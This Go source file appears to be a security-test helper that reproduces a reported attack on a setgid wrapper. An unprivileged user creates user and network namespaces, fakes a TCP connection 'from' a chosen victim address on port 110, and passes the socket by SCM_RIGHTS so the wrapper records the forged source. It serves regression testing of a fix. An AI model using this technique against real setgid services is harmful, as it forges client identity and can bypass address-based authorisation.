// Netnsforge is the attack of issue 26, item 1, for t/TestSecurityNetns:
// run by an ordinary user, it forges a socket "accepted on port 110 from
// VICTIM" in a network namespace of its own and has the setgid wrapper
// record it.
//
//	netnsforge UNSHARE IP VICTIM WRAP SPOOL
//
// It runs "UNSHARE -Urn netnsforge -inner IP VICTIM" (a user namespace
// and a network namespace, no privilege needed), which brings lo up,
// puts VICTIM on it, listens on VICTIM port 110, connects from VICTIM,
// accepts, and sends the accepted socket back over a unix socket
// (SCM_RIGHTS). Back in the original namespaces it prints one line about
// that socket on standard output, then runs "WRAP --spool SPOOL
// /bin/echo next ran" with the socket as standard input and its own
// environment (the test sets TCPREMOTEIP and USER), and exits with the
// wrapper's code. Its own failures are "netnsforge: ..." on standard
// error, exit 111.
package main

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func fail(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "netnsforge: "+format+"\n", args...)
	os.Exit(111)
}

func main() {
	if len(os.Args) == 4 && os.Args[1] == "-inner" {
		inner(os.Args[2], os.Args[3])
		return
	}
	if len(os.Args) != 6 {
		fail("usage: netnsforge UNSHARE IP VICTIM WRAP SPOOL")
	}
	unshare, ip, victim, wrap, spool := os.Args[1], os.Args[2], os.Args[3], os.Args[4], os.Args[5]
	fds, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		fail("socketpair: %v", err)
	}
	self, err := os.Executable()
	if err != nil {
		fail("%v", err)
	}
	in := exec.Command(unshare, "-Urn", "--", self, "-inner", ip, victim)
	end := os.NewFile(uintptr(fds[1]), "unix")
	in.ExtraFiles = []*os.File{end} // fd 3
	in.Stdout, in.Stderr = os.Stderr, os.Stderr
	if err := in.Start(); err != nil {
		fail("%s: %v", unshare, err)
	}
	end.Close()

	buf := make([]byte, 1)
	oob := make([]byte, unix.CmsgSpace(4))
	_, oobn, _, _, err := unix.Recvmsg(fds[0], buf, oob, 0)
	if err != nil {
		fail("recvmsg: %v", err)
	}
	msgs, err := unix.ParseSocketControlMessage(oob[:oobn])
	if err != nil || len(msgs) != 1 {
		in.Wait()
		fail("no socket came back from the namespace (%v)", err)
	}
	rights, err := unix.ParseUnixRights(&msgs[0])
	if err != nil || len(rights) != 1 {
		fail("no socket came back from the namespace (%v)", err)
	}
	sock := os.NewFile(uintptr(rights[0]), "accepted")

	// What the socket is: its ends, and whose network namespace.
	local, err1 := unix.Getsockname(rights[0])
	peer, err2 := unix.Getpeername(rights[0])
	theirs, err3 := unix.GetsockoptUint64(rights[0], unix.SOL_SOCKET, unix.SO_NETNS_COOKIE)
	ours, err4 := unix.GetsockoptUint64(fds[0], unix.SOL_SOCKET, unix.SO_NETNS_COOKIE)
	if err := errors.Join(err1, err2, err3, err4); err != nil {
		fail("the socket: %v", err)
	}
	fmt.Printf("netnsforge: local %s peer %s netns %d, this process's netns %d\n", show(local), show(peer), theirs, ours)

	w := exec.Command(wrap, "--spool", spool, "/bin/echo", "next ran")
	w.Stdin, w.Stdout, w.Stderr = sock, os.Stdout, os.Stderr
	err = w.Run()
	unix.Close(fds[0]) // the inner one waits for this
	in.Wait()
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		os.Exit(ee.ExitCode())
	}
	if err != nil {
		fail("%s: %v", wrap, err)
	}
}

func show(sa unix.Sockaddr) string {
	switch sa := sa.(type) {
	case *unix.SockaddrInet4:
		return net.JoinHostPort(net.IP(sa.Addr[:]).String(), fmt.Sprint(sa.Port))
	case *unix.SockaddrInet6:
		return net.JoinHostPort(net.IP(sa.Addr[:]).String(), fmt.Sprint(sa.Port))
	}
	return fmt.Sprintf("%T", sa)
}

// inner runs in the new namespaces, fd 3 the way back.
func inner(ip, victim string) {
	prefix := victim + "/32"
	add := []string{"addr", "add", prefix, "dev", "lo"}
	if strings.Contains(victim, ":") {
		add = []string{"-6", "addr", "add", victim + "/128", "dev", "lo", "nodad"}
	}
	for _, args := range [][]string{{"link", "set", "lo", "up"}, add} {
		if out, err := exec.Command(ip, args...).CombinedOutput(); err != nil {
			fail("ip %s: %v: %s", strings.Join(args, " "), err, out)
		}
	}
	addr := net.JoinHostPort(victim, "110")
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		fail("listen: %v", err)
	}
	// The kernel routes an IPv6 address added to lo only once its work
	// queue has run: until then a connection to it is unreachable.
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(victim)}}
	var c net.Conn
	for deadline := time.Now().Add(time.Minute); ; time.Sleep(10 * time.Millisecond) {
		if c, err = d.Dial("tcp", addr); err == nil {
			break
		}
		if !errors.Is(err, unix.ENETUNREACH) || time.Now().After(deadline) {
			fail("dial: %v", err)
		}
	}
	defer c.Close()
	a, err := ln.Accept()
	if err != nil {
		fail("accept: %v", err)
	}
	f, err := a.(*net.TCPConn).File()
	if err != nil {
		fail("%v", err)
	}
	if err := unix.Sendmsg(3, []byte{0}, unix.UnixRights(int(f.Fd())), nil, 0); err != nil {
		fail("sendmsg: %v", err)
	}
	// Keep the connection up until the wrapper has run.
	io.Copy(io.Discard, os.NewFile(3, "unix"))
}
